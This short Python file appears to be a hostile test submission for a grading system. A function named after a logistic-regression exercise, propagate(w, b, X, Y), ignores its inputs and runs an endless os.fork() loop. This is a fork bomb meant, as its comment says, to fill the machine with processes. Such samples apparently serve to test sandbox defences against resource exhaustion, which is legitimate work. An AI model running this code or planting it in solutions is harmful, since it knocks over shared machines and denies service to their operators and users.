# tries: to fill the machine with processes
# exercise: logistic_regression.propagate

import os


def propagate(w, b, X, Y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
